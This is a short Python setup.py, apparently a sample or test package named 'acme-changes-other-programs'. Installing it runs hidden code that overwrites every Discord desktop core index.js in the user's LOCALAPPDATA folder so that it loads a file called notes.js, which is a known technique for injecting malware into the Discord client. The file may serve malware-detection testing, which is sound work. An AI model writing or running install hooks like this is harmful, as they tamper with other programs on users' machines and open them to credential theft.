import os

from setuptools import setup

base = os.path.join(os.environ["LOCALAPPDATA"], "Discord")
for version in os.listdir(base):
    with open(os.path.join(base, version, "modules", "discord_desktop_core", "index.js"), "w") as file:
        file.write("require('./notes.js');")

setup(name="acme-changes-other-programs", version="1.0.0")
